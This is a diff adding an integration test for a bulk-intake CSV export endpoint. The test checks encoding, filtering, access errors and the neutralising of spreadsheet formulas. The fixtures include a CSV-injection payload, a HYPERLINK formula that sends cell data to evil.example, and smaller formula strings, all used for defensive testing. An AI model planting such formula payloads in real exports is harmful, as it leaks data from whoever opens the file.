@@ -9,12 +9,19 @@
 import assert from "node:assert/strict";
 import type { Server } from "node:http";
 import type { AddressInfo } from "node:net";
+import { parse as parseCsv } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import JSZip from "jszip";
 import { type Context, type Service, ServiceBroker } from "moleculer";
 import { getSequelize, select } from "../../../lib/db";
 import { createDevIdp, type DevIdp, serveJwks } from "../../../lib/devidp";
-import { TEMPLATE_COLUMNS, TEMPLATE_EXAMPLE } from "../../../lib/intake/bulk/columns";
+import {
+	cellsOf,
+	mapHeader,
+	REPORT_COLUMNS,
+	TEMPLATE_COLUMNS,
+	TEMPLATE_EXAMPLE,
+} from "../../../lib/intake/bulk/columns";
 import { insertBulkJob } from "../../../lib/intake/bulk/jobs-store";
 import { getQueue } from "../../../lib/queue";
 import { loadServiceSchema } from "../../../lib/system";
@@ -489,5 +496,133 @@ describe("intake bulk upload API over HTTP (issue 10)", function () {
 			job.rows.data.map((x) => x.outcome),
 			["approved", "rejected", "failed"],
 		);
+	});
+
+	it("rows.csv: the failed and review rows in the template's layout plus the report columns, neutralised, streamed; outcome filter; 404 / 400", async () => {
+		const { s, token } = await account("merchant_staff"); // a read-only role may download
+		const db = getSequelize();
+		const job_id = await insertBulkJob(db, {
+			sender_id: s,
+			file_name: "x.csv",
+			content_type: "text/csv",
+			format: "csv",
+			sender_address_id: OWNED,
+			bytes: csv([exampleRow(`X-${s}`)]),
+		});
+		await db.query(`DELETE FROM intake.bulk_rows WHERE job_id = ${job_id}`);
+		const cells = (no: string, extra: Record<string, string> = {}) =>
+			JSON.stringify({
+				...Object.fromEntries(
+					TEMPLATE_COLUMNS.map((c) => [c, c === "customer_order_no" ? no : TEMPLATE_EXAMPLE[c]]),
+				),
+				...extra,
+			});
+		const smuggled = {
+			receiver_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+			receiver_mobile_no: "+919123456780",
+			receiver_landmark: "@SUM(1+1)",
+			receiver_address_2: 'Flat 4, "Lotus", 2nd floor',
+			product_name: "कुर्ता", // Devanagari survives (UTF-8 with BOM)
+		};
+		await select(
+			db,
+			`INSERT INTO intake.bulk_rows (job_id, row_no, outcome, order_id, errors, review_reason, data) VALUES
+				($1, 1, 'created', 501, NULL, NULL, NULL),
+				($1, 2, 'failed', NULL, $2::jsonb, NULL, $3::jsonb),
+				($1, 3, 'review', NULL, NULL, 'cod_above_order_value: cod_amount 900 is above declared_order_total 500', $4::jsonb),
+				($1, 4, 'rejected', NULL, NULL, 'pincode_mismatch: test', $5::jsonb),
+				($1, 5, 'failed', NULL, $6::jsonb, NULL, '{}'::jsonb)`,
+			[
+				job_id,
+				JSON.stringify([
+					{ column: "receiver_pincode", field: "receiver.pincode", message: "must be 6 digits" },
+					{ column: null, field: "product.physical_weight", message: "=1+1 is not a number" },
+				]),
+				cells(`F2-${s}`, { ...smuggled, receiver_pincode: "12" }),
+				cells(`V3-${s}`, { cod_amount: "900", declared_order_total: "500" }),
+				cells(`J4-${s}`),
+				JSON.stringify([
+					{ column: null, field: null, message: "row could not be read: Invalid Record Length" },
+				]),
+			],
+		);
+
+		const r = await http(base, "GET", `/v1/intake/jobs/${job_id}/rows.csv`, { token });
+		assert.equal(r.status, 200, r.text);
+		assert.equal(r.headers.get("content-type"), "text/csv; charset=utf-8");
+		assert.equal(r.headers.get("content-disposition"), `attachment; filename="bulk-${job_id}-rows.csv"`);
+		assert.deepEqual([...r.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "UTF-8 byte-order mark");
+		assert.ok(r.text.includes("\r\n") && !/[^\r]\n/.test(r.text), "CRLF line ends only");
+		const records = parseCsv(r.bytes, { bom: true }) as string[][];
+		assert.deepEqual(records[0], [...TEMPLATE_COLUMNS, ...REPORT_COLUMNS]);
+		const col = (rec: string[], name: string) => rec[records[0].indexOf(name)];
+		assert.deepEqual(
+			records.slice(1).map((x) => [col(x, "row_no"), col(x, "outcome")]),
+			[
+				["2", "failed"],
+				["3", "review"],
+				["5", "failed"],
+			],
+		);
+		const [failed, review, unreadable] = records.slice(1);
+		assert.equal(col(failed, "customer_order_no"), `F2-${s}`);
+		assert.equal(col(failed, "receiver_name"), `'${smuggled.receiver_name}`);
+		assert.equal(col(failed, "receiver_mobile_no"), "'+919123456780");
+		assert.equal(col(failed, "receiver_landmark"), "'@SUM(1+1)");
+		assert.equal(col(failed, "receiver_address_2"), smuggled.receiver_address_2);
+		assert.equal(col(failed, "product_name"), "कुर्ता");
+		assert.equal(col(failed, "receiver_pincode"), "12");
+		assert.equal(
+			col(failed, "errors"),
+			"receiver_pincode: must be 6 digits | product.physical_weight: =1+1 is not a number",
+		);
+		assert.equal(col(failed, "review_reason"), "");
+		assert.match(col(review, "review_reason"), /^cod_above_order_value: /);
+		assert.equal(col(review, "cod_amount"), "900");
+		assert.equal(col(unreadable, "customer_order_no"), "");
+		assert.equal(col(unreadable, "errors"), "row could not be read: Invalid Record Length");
+		// every cell of the export is safe to open in a spreadsheet
+		for (const rec of records.slice(1))
+			for (const cell of rec)
+				assert.ok(!/^[=+@\t\r]/.test(cell), `unneutralised cell ${JSON.stringify(cell)}`);
+
+		// uploaded again, the export's cells read back as stored: report columns ignored, neutralisation undone
+		const header = mapHeader(records[0]);
+		assert.deepEqual(
+			cellsOf(header, failed),
+			JSON.parse(cells(`F2-${s}`, { ...smuggled, receiver_pincode: "12" })),
+		);
+
+		const rejected = await http(base, "GET", `/v1/intake/jobs/${job_id}/rows.csv?outcome=rejected,failed`, {
+			token,
+		});
+		assert.equal(rejected.status, 200, rejected.text);
+		assert.deepEqual(
+			(parseCsv(rejected.bytes, { bom: true }) as string[][]).slice(1).map((x) => x[TEMPLATE_COLUMNS.length]),
+			["2", "4", "5"],
+		);
+		for (const bad of ["created", "failed,nope", ",", "review;failed"]) {
+			const b = await http(
+				base,
+				"GET",
+				`/v1/intake/jobs/${job_id}/rows.csv?outcome=${encodeURIComponent(bad)}`,
+				{
+					token,
+				},
+			);
+			assert.equal(b.status, 400, `${bad}: ${b.text}`);
+			assert.equal((b.body as { error: string }).error, "validation_failed");
+		}
+		const other = await account();
+		for (const path of [
+			`/v1/intake/jobs/${job_id}/rows.csv`,
+			"/v1/intake/jobs/x/rows.csv",
+			"/v1/intake/jobs/999999999/rows.csv",
+		]) {
+			const nf = await http(base, "GET", path, { token: other.token });
+			assert.equal(nf.status, 404, `${path}: ${nf.text}`);
+			assert.deepEqual(nf.body, { error: "not found", message: "not found" });
+		}
+		assert.equal((await http(base, "GET", `/v1/intake/jobs/${job_id}/rows.csv`)).status, 401);
 	});
 });
